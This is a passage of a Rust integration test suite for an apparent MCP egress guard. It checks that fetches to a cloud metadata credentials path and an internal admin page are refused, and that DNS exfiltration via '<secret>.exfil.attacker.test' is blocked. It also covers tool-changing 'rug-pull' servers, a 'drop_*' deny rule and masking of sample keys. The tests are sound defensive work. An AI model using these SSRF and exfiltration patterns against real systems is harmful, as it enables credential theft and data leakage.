//! MCP awareness (`exec --mcp`) with real MCP components from PyPI: the official MCP
//! Python SDK's client drives the reference fetch server (`mcp-server-fetch`, started
//! with `--allow-private-ips` like most MCP servers, which have no address guard) and a
//! database-like server built on the SDK's `MCPServer`, each under the relay, inside a
//! test network namespace whose "metadata", "internal" and "public" addresses are its
//! own loopback addresses.

use std::{
    io::{BufRead, BufReader, Read, Write},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use mcp_guard_tests::{guard_bin, mcp_helper, mcp_venv, output_text, Daemon, NetNs, TestCgroup};
use serde_json::Value;

const METADATA: &str = "169.254.169.254";
const INTERNAL: &str = "10.0.13.5";
const PUBLIC: &str = "93.184.216.34";

fn http(body: &'static str) -> &'static str {
    Box::leak(
        format!(
            "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .into_boxed_str(),
    )
}

/// A namespace with the three destinations answering HTTP on port 80 and the internal
/// one also listening on 5432 (a database), and a cgroup subtree for the workload.
fn lab() -> (NetNs, TestCgroup) {
    let ns = NetNs::new();
    for a in [METADATA, INTERNAL, PUBLIC] {
        ns.add_addr(a);
    }
    ns.serve_tcp(&format!("{METADATA}:80"), http("iam-credentials-SECRET"));
    ns.serve_tcp(&format!("{INTERNAL}:80"), http("internal-admin-page"));
    ns.serve_tcp(&format!("{PUBLIC}:80"), http("public-page"));
    ns.listen_tcp(&format!("{INTERNAL}:5432"));
    (ns, TestCgroup::new())
}

/// The workload's config. The kernel layer is what most tests here check: unless
/// `workload_extra` gives its own `[workload.mcp]`, the relay's argument check is off.
fn config(cg: &TestCgroup, workload_extra: &str, rules: &str) -> String {
    let relay = if workload_extra.contains("[workload.mcp]") {
        ""
    } else {
        "[workload.mcp]\ncheck_arguments = false\n"
    };
    format!(
        "[[workload]]\nname = \"mcp\"\ncgroup = \"{}/mcp\"\ndefault = \"deny-internal\"\n{workload_extra}\n{relay}{rules}\n",
        cg.rel
    )
}

fn fetch_server() -> Vec<String> {
    vec![
        mcp_venv()
            .join("bin/mcp-server-fetch")
            .display()
            .to_string(),
        "--ignore-robots-txt".into(),
        "--allow-private-ips".into(),
    ]
}

fn db_server() -> Vec<String> {
    vec![
        mcp_venv().join("bin/python").display().to_string(),
        mcp_helper("db_server.py").display().to_string(),
    ]
}

/// Runs the SDK client in `ns` against `server` under `exec --mcp`; the client's JSON.
fn client(ns: &NetNs, d: &Daemon, server: &[String], calls: &Value, extra: &[&str]) -> Value {
    client_resolving(ns, d, server, calls, extra, None)
}

/// [`client`], with `resolv` bind-mounted over /etc/resolv.conf (in a mount namespace
/// of its own) so that the server's lookups go where the test says.
fn client_resolving(
    ns: &NetNs,
    d: &Daemon,
    server: &[String],
    calls: &Value,
    extra: &[&str],
    resolv: Option<&Path>,
) -> Value {
    let out = client_command(ns, d, server, calls, extra, resolv)
        .output()
        .expect("run the MCP client");
    assert!(
        out.status.success(),
        "the MCP client failed:\n{}",
        output_text(&out)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("client output is not JSON ({e}):\n{}", output_text(&out)))
}

/// The SDK client's command: in `ns` (with `resolv` over /etc/resolv.conf), against
/// `server` under `exec --mcp` with the test daemon's config.
fn client_command(
    ns: &NetNs,
    d: &Daemon,
    server: &[String],
    calls: &Value,
    extra: &[&str],
    resolv: Option<&Path>,
) -> Command {
    let mut c = mcp_guard_tests::in_netns(ns, resolv);
    c.arg(mcp_venv().join("bin/python"))
        .arg(mcp_helper("client.py"))
        .arg("--calls")
        .arg(calls.to_string())
        .args(extra)
        .arg("--")
        .arg(guard_bin())
        .args(["exec", "--mcp", "--config"])
        .arg(&d.config)
        .args(["--workload", "mcp", "--"])
        .args(server);
    c
}

/// The SDK client in `ns` against `server` under `exec --mcp`, running on (for tests
/// that act while its calls wait).
fn spawn_client(
    ns: &NetNs,
    d: &Daemon,
    server: &[String],
    calls: &Value,
    extra: &[&str],
) -> std::process::Child {
    client_command(ns, d, server, calls, extra, None)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("MCP client")
}

/// Waits for an event matching `pred` (events read before it are kept for the next
/// wait); panics with every event seen otherwise.
fn wait_event(d: &Daemon, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
    thread_local! {
        static SEEN: std::cell::RefCell<Vec<Value>> = const { std::cell::RefCell::new(Vec::new()) };
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found = SEEN.with(|s| s.borrow().iter().find(|e| pred(e)).cloned());
        if let Some(e) = found {
            return e;
        }
        if Instant::now() > deadline {
            let seen = SEEN.with(|s| s.borrow().clone());
            panic!("no event {what}; saw:\n{seen:#?}");
        }
        let new = d.events(Duration::from_millis(200));
        SEEN.with(|s| s.borrow_mut().extend(new));
    }
}

fn metric(d: &Daemon, prefix: &str) -> f64 {
    try_metric(d, prefix).unwrap_or_else(|| panic!("no metric {prefix} in:\n{}", d.get("/metrics")))
}

fn try_metric(d: &Daemon, prefix: &str) -> Option<f64> {
    d.get("/metrics")
        .lines()
        .find(|l| l.starts_with(prefix))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
}

#[test]
fn fetch_of_metadata_is_denied_and_the_event_names_the_tool_call() {
    let (ns, cg) = lab();
    let d = Daemon::start(&config(&cg, "", ""));
    let calls = serde_json::json!([
        ["fetch", {"url": format!("http://{PUBLIC}/"), "raw": true}],
        ["fetch", {"url": format!("http://{METADATA}/latest/meta-data/iam/?token=abc"), "raw": true}],
        ["fetch", {"url": format!("http://{INTERNAL}/admin"), "raw": true}],
    ]);
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    assert_eq!(out["server"], "mcp-fetch");
    let r = &out["results"];
    assert_eq!(r[0]["is_error"], false, "{out}");
    assert!(
        r[0]["text"].as_str().unwrap().contains("public-page"),
        "{out}"
    );
    for i in [1, 2] {
        assert_eq!(r[i]["is_error"], true, "{out}");
        assert!(!r[i]["text"].as_str().unwrap().contains("SECRET"), "{out}");
        assert!(
            !r[i]["text"].as_str().unwrap().contains("internal-admin"),
            "{out}"
        );
    }
    // initialize is request 1, tools/list 2, the calls 3, 4 and 5 (the SDK numbers them).
    let e = wait_event(&d, "for the metadata fetch", |e| {
        e["dst"] == METADATA && e["reason"] == "baseline-metadata"
    });
    mcp_guard_tests::assert_event_schema(&e);
    let m = &e["mcp"];
    assert_eq!(m["tool"], "fetch", "{e:#}");
    assert_eq!(m["request_id"], "4", "{e:#}");
    assert_eq!(m["server"]["name"], "mcp-fetch", "{e:#}");
    assert_eq!(m["client"]["name"], "mcp", "{e:#}");
    let args = m["arguments"].as_str().unwrap();
    assert!(args.contains(&format!("url=http://{METADATA}")), "{e:#}");
    assert!(
        !args.contains("token=abc") && !args.contains("meta-data"),
        "secrets and paths stay out: {e:#}"
    );
    assert_eq!(e["workload"], "mcp");
    let e = wait_event(&d, "for the internal fetch", |e| {
        e["dst"] == INTERNAL && e["reason"] == "deny-internal"
    });
    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
    assert_eq!(e["mcp"]["request_id"], "5", "{e:#}");
    // Exact counters: three calls reported, the denials counted by class.
    assert_eq!(
        metric(&d, "mcp_guard_mcp_tool_calls_total{workload=\"mcp\"}"),
        3.0
    );
    assert!(metric(&d, "mcp_guard_denied_flows_total{dest_class=\"metadata\",family=\"ipv4\",hook=\"connect4\",proto=\"tcp\",reason=\"baseline-metadata\",workload=\"mcp\"}") >= 1.0);
    // `mcp-guard events` names the tool.
    let mut follow = Command::new(guard_bin())
        .args(["events", "--since", "5m", "--socket"])
        .arg(&d.control)
        .stdout(Stdio::piped())
        .spawn()
        .expect("events");
    let mut text = String::new();
    let mut r = BufReader::new(follow.stdout.take().expect("stdout"));
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline && !text.contains(METADATA) {
        let mut l = String::new();
        if r.read_line(&mut l).unwrap_or(0) == 0 {
            break;
        }
        text.push_str(&l);
    }
    let _ = follow.kill();
    let _ = follow.wait();
    assert!(
        text.lines()
            .any(|l| l.contains(METADATA) && l.contains("tool=fetch") && l.contains("request=4")),
        "{text}"
    );
}

#[test]
fn rules_scoped_to_tools_apply_only_while_those_tools_run() {
    let (ns, cg) = lab();
    let rule = |tools: &str| {
        format!("[[workload.allow]]\ncidr = \"{INTERNAL}/32\"\nports = [80]\ntools = [{tools}]\n")
    };
    let d = Daemon::start(&config(&cg, "", &rule("\"query_db\"")));
    let calls = serde_json::json!([["fetch", {"url": format!("http://{INTERNAL}/"), "raw": true}]]);
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    assert_eq!(out["results"][0]["is_error"], true, "{out}");
    let e = wait_event(&d, "naming the inactive tool rule", |e| {
        e["dst"] == INTERNAL && e["reason"] == "tool-not-active"
    });
    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
    assert!(e["rule"].as_str().unwrap().contains("query_db"), "{e:#}");

    // The same rule for `fetch`: the fetch reaches the address.
    let generation = d.status()["generation"].as_u64().unwrap();
    d.write_config(&config(&cg, "", &rule("\"fetch\"")));
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(10), || {
            d.status()["generation"].as_u64().unwrap() > generation
        }),
        "the config change was not loaded"
    );
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    assert_eq!(out["results"][0]["is_error"], false, "{out}");
    assert!(out["results"][0]["text"]
        .as_str()
        .unwrap()
        .contains("internal-admin-page"));
}

#[test]
fn calls_in_flight_activate_their_tools_and_background_connections_say_so() {
    let (ns, cg) = lab();
    let d = Daemon::start(&config(
        &cg,
        "",
        &format!("[[workload.allow]]\ncidr = \"{INTERNAL}/32\"\nports = [5432]\ntools = [\"query_db\", \"slow_query_db\"]\n"),
    ));
    let db = |delay: f64| serde_json::json!({"host": INTERNAL, "port": 5432, "delay": delay});
    let calls = serde_json::json!([
        ["query_db", {"host": INTERNAL, "port": 5432}],
        ["later", db(0.5)],
        ["cgroups", {}],
    ]);
    let then = serde_json::json!([["background", {}]]).to_string();
    let out = client(
        &ns,
        &d,
        &db_server(),
        &calls,
        &["--hold", "1.5", "--then", &then],
    );
    let r = &out["results"];
    assert_eq!(r[0]["text"], "connected", "{out}");
    assert_eq!(r[1]["text"], "scheduled", "{out}");
    let bg: Value = serde_json::from_str(r[3]["text"].as_str().unwrap()).unwrap();
    assert!(
        bg[0]
            .as_str()
            .unwrap()
            .starts_with("refused: Operation not permitted"),
        "{out}"
    );
    // The server runs in a cgroup of its own below the workload's; the relay does not.
    let cgroups: Value = serde_json::from_str(r[2]["text"].as_str().unwrap()).unwrap();
    let server_cg = cgroups["server"].as_str().unwrap();
    let relay_cg = cgroups["relay"].as_str().unwrap();
    assert!(
        server_cg.starts_with(&format!("{}/mcp/mcp-", cg.rel)),
        "server in {server_cg}"
    );
    assert!(
        !relay_cg.starts_with(&format!("{}/mcp", cg.rel)),
        "relay in {relay_cg}"
    );
    // The background connection, with no call in flight: refused, and said so.
    let e = wait_event(&d, "for the background connection", |e| {
        e["dst"] == INTERNAL && e["dport"] == 5432
    });
    assert_eq!(e["reason"], "tool-not-active", "{e:#}");
    mcp_guard_tests::assert_event_schema(&e);
    assert!(e["mcp"].is_object(), "{e:#}");
    assert!(e["mcp"]["tool"].is_null(), "a background connection: {e:#}");
    assert_eq!(e["mcp"]["in_flight"], serde_json::json!([]), "{e:#}");

    // Concurrent calls activate the union of their tools: `later`'s thread connects
    // while `slow_query_db` is still in flight, so the tool set naming `slow_query_db`
    // holds for it.
    let calls = serde_json::json!([
        ["slow_query_db", {"host": PUBLIC, "port": 80, "delay": 2.0}],
        ["later", db(0.3)],
    ]);
    let out = client(
        &ns,
        &d,
        &db_server(),
        &calls,
        &["--concurrent", "--then", &then],
    );
    assert_eq!(out["results"][0]["text"], "connected", "{out}");
    assert_eq!(out["results"][2]["text"], "[\"connected\"]", "{out}");
}

#[test]
fn a_workload_can_deny_all_egress_between_calls() {
    let (ns, cg) = lab();
    let d = Daemon::start(&config(&cg, "between_calls = \"deny\"", ""));
    let calls = serde_json::json!([
        ["query_db", {"host": PUBLIC, "port": 80}],
        ["later", {"host": PUBLIC, "port": 80, "delay": 0.5}],
    ]);
    let out = client(&ns, &d, &db_server(), &calls, &["--hold", "2"]);
    assert_eq!(out["results"][0]["text"], "connected", "{out}");
    let e = wait_event(&d, "between calls", |e| {
        e["dst"] == PUBLIC && e["reason"] == "between-calls"
    });
    assert!(e["mcp"]["tool"].is_null(), "{e:#}");
}

/// Runs `cmd` under `exec --mcp` (or directly, in the workload's cgroup's netns only)
/// with `input` on stdin; returns stdout.
fn relay_bytes(
    d: &Daemon,
    ns: &NetNs,
    cmd: &[String],
    input: &[u8],
    responses: usize,
    relay: bool,
) -> Vec<u8> {
    let mut c = Command::new("nsenter");
    c.arg(format!("--net={}", ns.path().display()));
    if relay {
        c.arg(guard_bin())
            .args(["exec", "--mcp", "--config"])
            .arg(&d.config)
            .args(["--workload", "mcp", "--"]);
    }
    let mut child = c
        .args(cmd)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("spawn");
    let mut stdin = child.stdin.take().expect("stdin");
    let mut stdout = child.stdout.take().expect("stdout");
    let input = input.to_vec();
    let writer = std::thread::spawn(move || {
        stdin.write_all(&input).expect("write");
        // Without answers to wait for, EOF right away; otherwise the caller closes.
        (responses > 0).then_some(stdin)
    });
    let mut out = Vec::new();
    if responses == 0 {
        // Read while the writer writes: a pipe holds far less than the input.
        stdout.read_to_end(&mut out).expect("read");
        drop(writer.join());
    } else {
        // A server that ends its session on EOF: close stdin only after the answers.
        let mut r = BufReader::new(stdout);
        for _ in 0..responses {
            let n = r.read_until(b'\n', &mut out).expect("read");
            assert!(
                n > 0,
                "the server ended early: {}",
                String::from_utf8_lossy(&out)
            );
        }
        drop(writer.join());
        r.read_to_end(&mut out).expect("read");
    }
    let status = child.wait().expect("wait");
    assert!(status.success(), "{cmd:?} exited with {status}");
    out
}

#[test]
fn the_relay_passes_every_byte_through_and_counts_what_it_cannot_read() {
    let (ns, cg) = lab();
    let d = Daemon::start(&config(&cg, "", ""));
    // `cat` as the server echoes every line back: each passes the relay twice.
    let mut input = Vec::new();
    input.extend_from_slice(br#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"clientInfo":{"name":"raw","version":"1"}}}"#);
    input.push(b'\n');
    input.extend_from_slice(br#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"http://x/"}}}"#);
    input.extend_from_slice(b"\r\n");
    let malformed: [&[u8]; 4] = [
        b"not json",
        br#"{"jsonrpc":"2.0"}"#,
        b"\xff\xfe{\"broken\"",
        b"",
    ];
    for m in malformed {
        input.extend_from_slice(m);
        input.push(b'\n');
    }
    // 17 MiB on one line: passed through unread.
    input.extend(std::iter::repeat_n(b'a', 17 * 1024 * 1024));
    input.push(b'\n');
    input.extend_from_slice(
        br#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":2}}"#,
    );
    input.push(b'\n');
    input.extend_from_slice(b"no newline at the end");
    let out = relay_bytes(&d, &ns, &["cat".to_string()], &input, 0, true);
    assert!(
        out == input,
        "the relay changed the bytes ({} in, {} out)",
        input.len(),
        out.len()
    );
    // Counted in both directions: 4 malformed lines and the unterminated last one; one
    // oversized line.
    let lines = |kind: &str| {
        try_metric(
            &d,
            &format!("mcp_guard_mcp_relay_lines_total{{kind=\"{kind}\",workload=\"mcp\"}}"),
        )
    };
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(5), || lines("malformed") == Some(10.0)),
        "malformed: {:?}",
        lines("malformed")
    );
    assert_eq!(lines("oversized"), Some(2.0));

    // The real fetch server: the client gets the same bytes with and without the relay.
    let session = format!(
        "{}\n{}\n{}\n{}\n",
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#,
        format_args!(
            r#"{{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{{"name":"fetch","arguments":{{"url":"http://{PUBLIC}/","raw":true}}}}}}"#
        ),
    );
    let direct = relay_bytes(&d, &ns, &fetch_server(), session.as_bytes(), 3, false);
    let relayed = relay_bytes(&d, &ns, &fetch_server(), session.as_bytes(), 3, true);
    assert!(String::from_utf8_lossy(&direct).contains("public-page"));
    assert_eq!(
        String::from_utf8_lossy(&direct),
        String::from_utf8_lossy(&relayed)
    );
}

#[test]
fn exec_mcp_needs_the_daemon() {
    let (_ns, cg) = lab();
    let d = Daemon::start(&config(&cg, "", ""));
    // A config whose MCP socket no daemon serves: exec refuses to run the server.
    let text = std::fs::read_to_string(&d.config).unwrap();
    let other = d.config.with_file_name("other.toml");
    std::fs::write(&other, text.replace("mcp.sock", "nobody-here.sock")).unwrap();
    let out = Command::new(guard_bin())
        .args(["exec", "--mcp", "--config"])
        .arg(&other)
        .args(["--workload", "mcp", "--", "true"])
        .output()
        .expect("exec");
    assert_eq!(out.status.code(), Some(2), "{}", output_text(&out));
    assert!(
        output_text(&out).contains("nobody-here.sock"),
        "{}",
        output_text(&out)
    );
    // Its instance cgroup is removed again.
    let left: Vec<_> = std::fs::read_dir(Path::new(&cg.dir).join("mcp"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("mcp-"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// DNS exfiltration through the real fetch server: the attacker puts data in a name
/// (`<data>.exfil.attacker.test`) and has the fetch tool resolve it. The server's
/// resolver is the daemon's DNS proxy: the name no host rule covers never reaches the
/// upstream server (a real dnsmasq that logs every query), the fetch fails, and the
/// refusal event names the tool call; an allowed name resolves and is fetched.
#[test]
fn dns_exfiltration_through_the_fetch_tool_is_refused_and_named() {
    let (ns, cg) = lab();
    ns.add_addr("127.0.0.153");
    let dnsmasq = mcp_guard_tests::Dnsmasq::start(
        &ns,
        &format!("{PUBLIC} api.example.test\n"),
        &["/attacker.test/93.184.216.34"],
        60,
    );
    let d =
        Daemon::start(&format!(
        "{}[dns]\nnameservers = [\"127.0.0.1:53\"]\nnetns = \"{}\"\nproxy = \"127.0.0.153:53\"\n",
        config(&cg, "", "[[workload.allow]]\nhost = \"api.example.test\"\nports = [80]\n"),
        ns.path().display()
    ));
    let dir = mcp_guard_tests::TempDir::new();
    let resolv = dir.0.join("resolv.conf");
    std::fs::write(&resolv, "nameserver 127.0.0.153\n").expect("resolv.conf");
    let secret = "c2VjcmV0LWNyZWRlbnRpYWxz";
    let calls = serde_json::json!([
        ["fetch", {"url": "http://api.example.test/", "raw": true}],
        ["fetch", {"url": format!("http://{secret}.exfil.attacker.test/"), "raw": true}],
    ]);
    let out = client_resolving(&ns, &d, &fetch_server(), &calls, &[], Some(&resolv));
    let r = &out["results"];
    assert_eq!(r[0]["is_error"], false, "the allowed name: {out}");
    assert!(
        r[0]["text"].as_str().unwrap().contains("public-page"),
        "{out}"
    );
    assert_eq!(r[1]["is_error"], true, "the exfiltrating name: {out}");
    let queries = dnsmasq.queries();
    assert!(
        queries.iter().any(|q| q.contains("api.example.test")),
        "the allowed name went upstream: {queries:?}"
    );
    assert!(
        !queries
            .iter()
            .any(|q| q.to_lowercase().contains("exfil.attacker.test")),
        "the data reached the upstream DNS server: {queries:?}"
    );
    let e = wait_event(&d, "for the refused query", |e| {
        e["hook"] == "dns" && e["reason"] == "name-not-allowed"
    });
    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["workload"], "mcp", "{e:#}");
    assert!(
        e["name"]
            .as_str()
            .unwrap_or("")
            .starts_with(&secret.to_lowercase()),
        "{e:#}"
    );
    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
    assert_eq!(e["mcp"]["request_id"], "4", "{e:#}");
    assert!(
        metric(
            &d,
            "mcp_guard_dns_query_refused_total{reason=\"name-not-allowed\",workload=\"mcp\"}"
        ) >= 1.0
    );
}

/// Tool scoping across daemon restarts (the instance map is pinned with the programs that
/// read it, and cleared at start; the relay registers its instance and its calls in
/// flight again as soon as the daemon is back): a call in flight at a kill -9 holds its
/// tools again after the restart, a call after the restart is scoped, and nothing stays
/// active between calls (a background connection is refused). Before: the adopted
/// programs kept reading the killed daemon's unpinned map, in which the call stayed in
/// flight forever (the background connection got through).
#[test]
fn tool_scoping_survives_a_restart_and_nothing_stays_active_between_calls() {
    let (ns, cg) = lab();
    let mut d = Daemon::start(&config(
        &cg,
        "",
        &format!("[[workload.allow]]\ncidr = \"{INTERNAL}/32\"\nports = [5432]\ntools = [\"query_db\", \"slow_query_db\"]\n[daemon]\non_exit = \"keep\"\n"),
    ));
    let db = serde_json::json!({"host": INTERNAL, "port": 5432});
    let calls = serde_json::json!([
        ["query_db", db],
        ["slow_query_db", {"host": INTERNAL, "port": 5432, "delay": 10.0}],
    ]);
    let then = serde_json::json!([
        ["query_db", db],
        ["later", {"host": INTERNAL, "port": 5432, "delay": 0.3}],
        ["pause", {"seconds": 1.5}],
        ["background", {}],
    ])
    .to_string();
    let child = spawn_client(&ns, &d, &db_server(), &calls, &["--then", &then]);
    // The slow call is in flight: kill -9, then start again.
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(20), || try_metric(
            &d,
            "mcp_guard_mcp_tool_calls_total{workload=\"mcp\"}"
        )
        .is_some_and(|v| v >= 2.0)),
        "the slow call was reported"
    );
    // The counter moves just before the kernel entry is written: let the write land, so
    // the kill finds the call active in the kernel.
    std::thread::sleep(Duration::from_millis(300));
    d.kill9();
    d.restart();
    let out = child.wait_with_output().expect("MCP client");
    assert!(out.status.success(), "{}", output_text(&out));
    let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
    let r = &got["results"];
    assert_eq!(r[0]["text"], "connected", "before the restart: {got}");
    assert_eq!(
        r[1]["text"], "connected",
        "the call in flight at the kill is registered again by its relay: {got}"
    );
    assert!(
        output_text(&out).contains("1 call(s) in flight registered again"),
        "{}",
        output_text(&out)
    );
    assert_eq!(
        r[2]["text"], "connected",
        "scoped again after the restart: {got}"
    );
    assert_eq!(
        r[5]["text"], "[\"refused: Operation not permitted\"]",
        "nothing stays active between calls: {got}"
    );
}

fn rug_server() -> Vec<String> {
    vec![
        mcp_venv().join("bin/python").display().to_string(),
        mcp_helper("rug_server.py").display().to_string(),
    ]
}

/// Reloads `d` with `text` and waits for the new generation.
fn reload(d: &Daemon, text: &str) {
    let generation = d.status()["generation"].as_u64().unwrap();
    d.write_config(text);
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(10), || {
            d.status()["generation"].as_u64().unwrap() > generation
        }),
        "the config change was not loaded"
    );
}

/// The SDK client against the rug-pull server: three calls, the list again, one more.
fn rug_session(ns: &NetNs, d: &Daemon) -> Value {
    let calls = serde_json::json!([
        ["notes", {"text": "a"}],
        ["drop_table", {"name": "users"}],
        ["update", {}],
    ]);
    let then = serde_json::json!([["notes", {"text": "b"}]]).to_string();
    client(ns, d, &rug_server(), &calls, &["--relist", "--then", &then])
}

#[test]
fn tool_rules_hide_and_refuse_tools_and_a_changed_tool_is_pinned() {
    let (ns, cg) = lab();
    let relay = "[workload.mcp]\ndeny_tools = [\"drop_*\"]\npin_tools = true\n";
    let d = Daemon::start(&config(&cg, relay, ""));
    let out = rug_session(&ns, &d);
    let names = |k: &str| -> Vec<String> {
        out[k]
            .as_array()
            .unwrap_or_else(|| panic!("{k}: {out}"))
            .iter()
            .map(|t| t.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        names("tools"),
        ["notes", "update"],
        "drop_table is hidden: {out}"
    );
    let r = &out["results"];
    assert_eq!(r[0]["text"], "noted: a", "{out}");
    assert_eq!(
        r[1]["code"], -32001,
        "the denied tool is answered by the relay: {out}"
    );
    let why = r[1]["error"].as_str().unwrap();
    assert!(
        why.contains("deny_tools \"drop_*\"") && why.contains("tool-denied"),
        "{out}"
    );
    assert_eq!(r[2]["text"], "updated", "{out}");
    assert_eq!(
        names("tools_after"),
        ["update"],
        "the changed tool is hidden: {out}"
    );
    assert_eq!(r[3]["code"], -32001, "the changed tool is refused: {out}");
    assert!(
        r[3]["error"].as_str().unwrap().contains("pin_tools"),
        "{out}"
    );

    let e = wait_event(&d, "for the denied tool", |e| {
        e["hook"] == "mcp" && e["reason"] == "tool-denied"
    });
    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["verdict"], "refused", "{e:#}");
    assert_eq!(e["mcp"]["tool"], "drop_table", "{e:#}");
    assert_eq!(e["mcp"]["request_id"], "4", "{e:#}");
    assert!(
        e["rule"].as_str().unwrap().contains(":6)"),
        "the rule's line: {e:#}"
    );
    let e = wait_event(&d, "for the changed tool in the list", |e| {
        e["hook"] == "mcp" && e["reason"] == "tool-changed" && e["verdict"] == "hidden"
    });
    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["mcp"]["tool"], "notes", "{e:#}");
    let e = wait_event(&d, "for the changed tool's call", |e| {
        e["hook"] == "mcp" && e["reason"] == "tool-changed" && e["verdict"] == "refused"
    });
    assert_eq!(e["mcp"]["tool"], "notes", "{e:#}");
    // Exact counters; refused calls were never in flight.
    let decisions = |reason: &str, verdict: &str| {
        metric(&d, &format!("mcp_guard_mcp_relay_decisions_total{{reason=\"{reason}\",verdict=\"{verdict}\",workload=\"mcp\"}}"))
    };
    assert_eq!(decisions("tool-denied", "refused"), 1.0);
    assert_eq!(decisions("tool-changed", "hidden"), 1.0);
    assert_eq!(decisions("tool-changed", "refused"), 1.0);
    assert_eq!(
        metric(&d, "mcp_guard_mcp_tool_calls_total{workload=\"mcp\"}"),
        2.0
    );

    // pin_tools off: the change is reported, the tool stays listed and callable; no
    // tool rule: drop_table is listed and runs.
    reload(&d, &config(&cg, "", ""));
    let out = rug_session(&ns, &d);
    assert_eq!(
        out["tools"],
        serde_json::json!(["notes", "drop_table", "update"]),
        "{out}"
    );
    assert_eq!(out["results"][1]["text"], "dropped users", "{out}");
    assert_eq!(
        out["tools_after"],
        serde_json::json!(["drop_table", "update", "notes"]),
        "the changed tool is listed again (the server lists it last now): {out}"
    );
    assert_eq!(out["results"][3]["text"], "noted: b", "{out}");
    let e = wait_event(&d, "for the reported change", |e| {
        e["hook"] == "mcp" && e["reason"] == "tool-changed" && e["verdict"] == "reported"
    });
    assert_eq!(e["mcp"]["tool"], "notes", "{e:#}");
}

#[test]
fn arguments_naming_a_refused_destination_are_refused_at_the_relay() {
    let (ns, cg) = lab();
    let d = Daemon::start(&config(&cg, "[workload.mcp]\n", ""));
    let calls = serde_json::json!([
        ["fetch", {"url": format!("http://{PUBLIC}/"), "raw": true}],
        ["fetch", {"url": format!("http://{METADATA}/latest/meta-data/"), "raw": true}],
        ["fetch", {"url": format!("http://{INTERNAL}/admin"), "raw": true}],
    ]);
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    let r = &out["results"];
    assert!(
        r[0]["text"].as_str().unwrap().contains("public-page"),
        "{out}"
    );
    for (i, what) in [(1, "baseline"), (2, "deny-internal")] {
        assert_eq!(r[i]["code"], -32001, "{out}");
        let why = r[i]["error"].as_str().unwrap();
        assert!(
            why.contains("argument-refused") && why.contains(what),
            "{i}: {why}"
        );
    }
    let e = wait_event(&d, "for the metadata argument", |e| {
        e["hook"] == "mcp"
            && e["reason"] == "argument-refused"
            && e["dst"] == format!("{METADATA}:80")
    });
    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["dest_class"], "metadata", "{e:#}");
    assert_eq!(e["severity"], "critical", "{e:#}");
    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
    // The server never saw those calls: the kernel refused nothing.
    assert_eq!(
        try_metric(&d, "mcp_guard_denied_flows_total{dest_class=\"metadata\"").unwrap_or(0.0),
        0.0,
        "{}",
        d.get("/metrics")
    );

    // The check off: the server tries, and the kernel refuses.
    reload(
        &d,
        &config(&cg, "[workload.mcp]\ncheck_arguments = false\n", ""),
    );
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    let r = &out["results"];
    assert_eq!(r[1]["is_error"], true, "{out}");
    assert!(!r[1]["text"].as_str().unwrap().contains("SECRET"), "{out}");
    wait_event(&d, "the kernel's refusal", |e| {
        e["dst"] == METADATA && e["reason"] == "baseline-metadata" && e["mcp"]["tool"] == "fetch"
    });
}

#[test]
fn credentials_in_tool_results_are_masked_or_reported() {
    let (ns, cg) = lab();
    let key = "AKIAIOSFODNN7EXAMPLE";
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
    ns.serve_tcp(
        &format!("{PUBLIC}:8080"),
        http(Box::leak(
            format!("AccessKeyId: {key}\nAuthorization: Bearer {jwt}\n").into_boxed_str(),
        )),
    );
    let d = Daemon::start(&config(&cg, "[workload.mcp]\nmask = \"secrets\"\n", ""));
    let calls =
        serde_json::json!([["fetch", {"url": format!("http://{PUBLIC}:8080/creds"), "raw": true}]]);
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    let text = out["results"][0]["text"].as_str().unwrap();
    assert!(
        text.contains("[REDACTED:aws-access-key-id]") && text.contains("[REDACTED:jwt]"),
        "{out}"
    );
    assert!(!text.contains(key) && !text.contains(jwt), "{out}");
    let e = wait_event(&d, "for the masked key", |e| {
        e["hook"] == "mcp" && e["secret"] == "aws-access-key-id"
    });
